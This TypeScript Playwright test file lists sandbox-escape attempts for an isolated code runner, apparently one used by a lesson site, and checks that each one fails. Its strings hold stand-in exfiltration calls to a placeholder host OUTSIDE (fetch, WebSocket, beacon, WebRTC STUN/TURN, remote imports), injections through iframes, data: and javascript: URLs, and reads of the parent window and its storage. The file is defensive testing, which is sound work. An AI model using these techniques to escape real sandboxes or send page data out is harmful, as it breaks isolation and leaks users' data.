/** Code that tries to get out: to the network, to another page, to storage, to the reader's screen. */
import { expect } from '@playwright/test';
import { BOTH, loads, nothingWorked, tryAll, type Attack } from './attack';

const anyEnd: Attack['safe'] = (report) => {
  // A page that leaves its realm takes the run with it; one that is held back finishes.
  expect(['finished', 'lost', 'threw']).toContain(report.outcome?.kind);
};

/** Runs on a page of its own each, because the first one that moves takes the others with it. */
const navigation = (name: string, source: string): Attack => ({
  name: `self-navigation by ${name}`,
  realms: ['page'],
  source,
  order: { lingerMs: 700 },
  safe: anyEnd,
});

export const NAVIGATIONS: readonly Attack[] = [
  navigation('location.href', 'location.href = "OUTSIDE/navigated?" + document.title'),
  navigation('location.replace', 'location.replace("OUTSIDE/replaced")'),
  navigation('location to the lesson’s own site', 'location.href = "INSIDE/stolen"'),
  navigation('location.reload', 'location.reload()'),
  navigation(
    'meta refresh',
    'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=OUTSIDE/refreshed">`)',
  ),
  navigation(
    'a form',
    'document.body.insertAdjacentHTML("beforeend", `<form method="post" action="OUTSIDE/posted"><input name="a" value="b"></form>`); document.forms[0].submit()',
  ),
  navigation(
    'a data: URL',
    'location.href = "data:text/html,<script>fetch(`OUTSIDE/data`)</script>"',
  ),
  navigation(
    'a blob: URL',
    'location.href = URL.createObjectURL(new Blob([`<img src="OUTSIDE/blob">`], { type: "text/html" }))',
  ),
  navigation('a javascript: URL', 'location.href = "javascript:void fetch(`OUTSIDE/javascript`)"'),
  navigation(
    'a click on a link',
    'const link = document.createElement("a"); link.href = "OUTSIDE/clicked"; link.ping = "OUTSIDE/ping"; document.body.append(link); link.click()',
  ),
  navigation(
    'a click on a _top link',
    'const link = document.createElement("a"); link.href = "OUTSIDE/top"; link.target = "_top"; document.body.append(link); link.click()',
  ),
  navigation(
    'top.location',
    'try { top.location = "OUTSIDE/top" } catch {} try { parent.location.href = "OUTSIDE/parent" } catch {}',
  ),
  navigation(
    'a download',
    'const link = document.createElement("a"); link.href = URL.createObjectURL(new Blob(["x"])); link.download = "x.exe"; document.body.append(link); link.click()',
  ),
  navigation(
    'document.write over itself',
    'document.open(); document.write(`<img src="OUTSIDE/written"><script>fetch("OUTSIDE/written2")</scr` + `ipt>`); document.close()',
  ),
];

export const SCREEN: readonly Attack[] = [
  {
    name: 'nested iframes',
    realms: ['page'],
    source:
      'for (const html of [`<iframe src="OUTSIDE/framed"></iframe>`, `<iframe srcdoc="<img src=OUTSIDE/srcdoc><script>fetch(\'OUTSIDE/srcdoc2\')</script>"></iframe>`, `<iframe src="INSIDE/stolen"></iframe>`, `<object data="OUTSIDE/object"></object>`, `<embed src="OUTSIDE/embed">`, `<iframe src="about:blank"></iframe>`])\n' +
      '  document.body.insertAdjacentHTML("beforeend", html);\n' +
      'try { const blank = document.querySelector("iframe[src=\'about:blank\']").contentWindow; blank.fetch("OUTSIDE/blank").catch(() => {}); } catch {}',
    order: { lingerMs: 700 },
    safe: anyEnd,
  },
  {
    name: 'window.open',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      'open("OUTSIDE/opened") ?? undefined',
      'open("about:blank", "_blank") ?? undefined',
      'void open("OUTSIDE/top", "_top")',
      'void open("OUTSIDE/parent", "_parent")',
    ]),
    order: { lingerMs: 500 },
    safe: nothingWorked,
  },
  {
    name: 'alert, confirm, prompt and print',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      'alert("a")',
      'confirm("b") || undefined',
      'prompt("c") ?? undefined',
      'print()',
    ]),
    safe: nothingWorked,
  },
  {
    name: 'full screen, pointer lock, permissions and the clipboard',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      'document.documentElement.requestFullscreen().then(() => "full screen")',
      'navigator.clipboard.readText()',
      'navigator.mediaDevices.getUserMedia({ audio: true })',
      'new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, () => no(new Error("refused"))))',
    ]),
    safe: nothingWorked,
  },
];

const REACHING_OUT = [
  'fetch("OUTSIDE/fetch")',
  'fetch("OUTSIDE/nocors", { mode: "no-cors" })',
  'fetch("INSIDE/stolen")',
  'fetch("/stolen")',
  'new Promise((yes, no) => { const request = new XMLHttpRequest(); request.onload = yes; request.onerror = () => no(new Error("blocked")); request.open("GET", "OUTSIDE/xhr"); request.send(); })',
  'new Promise((yes, no) => { const socket = new WebSocket("OUTSIDE/socket".replace("http", "ws")); socket.onopen = yes; socket.onerror = () => no(new Error("blocked")); })',
  'new Promise((yes, no) => { const source = new EventSource("OUTSIDE/events"); source.onopen = yes; source.onerror = () => no(new Error("blocked")); })',
  'new Function("return import(\'OUTSIDE/module.js\')")()',
  'typeof WebTransport === "function" ? new WebTransport("OUTSIDE/transport".replace("http:", "https:")).ready : undefined',
];

export const NETWORK: readonly Attack[] = [
  {
    name: 'fetch, XMLHttpRequest, WebSocket, EventSource, import',
    realms: BOTH,
    goal: 'module',
    source: tryAll(REACHING_OUT),
    order: { lingerMs: 300, patienceMs: 30_000 },
    safe: nothingWorked,
  },
  {
    name: 'importScripts and Workers of its own',
    realms: ['worker'],
    goal: 'module',
    source: tryAll([
      'importScripts("OUTSIDE/script.js")',
      'new Promise((yes, no) => { const worker = new Worker("OUTSIDE/worker.js"); worker.onmessage = yes; worker.onerror = () => no(new Error("blocked")); })',
      'new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch("OUTSIDE/inner").then(() => postMessage(1), (error) => { throw error })`]))); worker.onmessage = yes; worker.onerror = () => no(new Error("blocked")); })',
    ]),
    order: { lingerMs: 300 },
    safe: nothingWorked,
  },
  {
    name: 'images, @import, fonts, media, beacon, prefetch',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      loads('Object.assign(new Image(), { src: "OUTSIDE/image.png" })'),
      loads(
        'Object.assign(document.createElement("link"), { rel: "stylesheet", href: "OUTSIDE/style.css" })',
      ),
      loads('Object.assign(document.createElement("script"), { src: "OUTSIDE/script.js" })'),
      loads(
        'Object.assign(document.createElement("video"), { src: "OUTSIDE/video.webm", onloadeddata: () => {} })',
      ),
      'void document.head.append(Object.assign(document.createElement("style"), { textContent: `@import url(OUTSIDE/import.css); body { background: url(OUTSIDE/background) } @font-face { font-family: f; src: url(OUTSIDE/font) } p { font-family: f }` }))',
      'void (document.body.innerHTML += "<p>text</p>")',
      'new FontFace("g", "url(OUTSIDE/font2)").load()',
      'void navigator.sendBeacon("OUTSIDE/beacon", "x")',
      'void ["preload", "prefetch", "modulepreload", "preconnect", "prerender", "icon", "manifest"].forEach((rel) => document.head.append(Object.assign(document.createElement("link"), { rel, as: "script", href: "OUTSIDE/" + rel })))',
      'void document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: `{"prefetch":[{"source":"list","urls":["OUTSIDE/speculated"]}]}` }))',
      'new PaymentRequest([{ supportedMethods: "OUTSIDE/pay" }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment().then((can) => can || undefined)',
    ]),
    order: { lingerMs: 1000, patienceMs: 30_000 },
    safe: nothingWorked,
  },
  {
    name: 'WebRTC to a server of its own',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      'new Promise((yes, no) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OUTSIDE".slice(7) }, { urls: "turn:" + "OUTSIDE".slice(7) + "?transport=tcp", username: "u", credential: "c" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(no); peer.onicecandidate = (event) => event.candidate && yes(event.candidate.candidate); })',
    ]),
    order: { lingerMs: 1500 },
    safe: nothingWorked,
  },
];

/** What a frame's own script does with globals that nobody has replaced; the page around it prints what it is told. */
const FRESH_GLOBALS = [
  'const tell = (what) => parent.postMessage("worked: " + what, "*");',
  'tell("a script of its own");',
  'fetch("OUTSIDE/fresh").then(() => tell("fetch"), () => {});',
  'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OUTSIDE".slice(7) }] });',
  'peer.createDataChannel("x");',
  'peer.onicecandidate = (event) => event.candidate && tell(event.candidate.candidate);',
  'peer.createOffer().then((offer) => peer.setLocalDescription(offer));',
].join(' ');

export const FRAMES: readonly Attack[] = [
  {
    name: 'frames with globals of their own',
    realms: ['page'],
    goal: 'module',
    source: [
      `const code = ${JSON.stringify(FRESH_GLOBALS)};`,
      'const html = "<script>" + code + "</scr" + "ipt>";',
      'const address = (text, type) => URL.createObjectURL(new Blob([text], { type }));',
      'const script = address(code, "text/javascript");',
      'addEventListener("message", (event) => console.log(String(event.data)));',
      'const frames = [',
      '  { srcdoc: html },',
      '  { srcdoc: `<script src="${script}"></scr` + "ipt>" },',
      '  { srcdoc: `<script type="module" src="${script}"></scr` + "ipt>" },',
      '  { srcdoc: `<img src="x" onerror="${code.replaceAll(`"`, "&quot;")}">` },',
      '  { srcdoc: `<a href="javascript:${encodeURIComponent(code)}">x</a><iframe srcdoc="${html.replaceAll(`"`, "&quot;")}"></iframe>` },',
      '  { src: "about:blank" },',
      '  { src: "javascript:" + JSON.stringify(html) },',
      '  { src: address(html, "text/html") },',
      '  { src: address(`<svg xmlns="http://www.w3.org/2000/svg"><script>${code.replaceAll("<", "&lt;").replaceAll("&", "&amp;")}</scr` + "ipt></svg>", "image/svg+xml") },',
      '  { src: "data:text/html," + encodeURIComponent(html) },',
      '];',
      'for (const given of frames) {',
      '  const frame = Object.assign(document.createElement("iframe"), given);',
      '  document.body.append(frame);',
      '  for (const name of ["RTCPeerConnection", "fetch", "eval", "document"])',
      '    try { if (frame.contentWindow[name]) console.log("worked: reached", name, "of", JSON.stringify(given).slice(0, 40)); } catch {}',
      '  try { frame.contentWindow.location = "javascript:" + JSON.stringify(html); } catch {}',
      '}',
      'await new Promise((resolve) => setTimeout(resolve, 2500));',
      'console.log("tried everything");',
    ].join('\n'),
    order: { lingerMs: 300 },
    safe: nothingWorked,
  },
];

export const STORAGE: readonly Attack[] = [
  {
    name: 'storage',
    realms: BOTH,
    goal: 'module',
    source: tryAll([
      'localStorage.setItem("stolen", "1")',
      'sessionStorage.setItem("stolen", "1")',
      'new Promise((yes, no) => { const open = indexedDB.open("stolen"); open.onsuccess = yes; open.onerror = () => no(open.error); })',
      'caches.open("stolen")',
      'navigator.storage.getDirectory()',
      'typeof document === "object" ? (document.cookie = "stolen=1", document.cookie || undefined) : undefined',
      'typeof cookieStore === "object" ? cookieStore.set("stolen", "1") : undefined',
      'navigator.serviceWorker.register("INSIDE/harness.js")',
      'typeof SharedWorker === "function" ? new Promise((yes, no) => { const worker = new SharedWorker("INSIDE/harness.js"); worker.onerror = () => no(new Error("blocked")); worker.port.onmessage = yes; }) : undefined',
    ]).replaceAll(
      'localStorage.setItem("stolen", "1")',
      '(localStorage.setItem("stolen", "1"), "stored")',
    ),
    safe: nothingWorked,
  },
  {
    name: 'BroadcastChannel to the host page',
    realms: BOTH,
    source:
      'const channel = new BroadcastChannel("harness"); channel.onmessage = () => console.log("worked");\nfor (let i = 0; i < 10; i++) channel.postMessage("from the realm");',
    order: { lingerMs: 500 },
    safe(report) {
      expect(report.lines).toEqual([]);
      expect(report.broadcasts).toBe(0);
    },
  },
  {
    name: 'the host page’s window',
    realms: ['page'],
    goal: 'module',
    source: tryAll([
      'top.document.title',
      'parent.document.body.innerHTML',
      'top.harness',
      'top.localStorage.getItem("x")',
      'frameElement?.src',
      'parent.frames[0].document.title',
    ]).replace(
      'result === undefined ? "ignored"',
      'result === undefined || result === document.title ? "ignored"',
    ),
    safe: nothingWorked,
  },
];
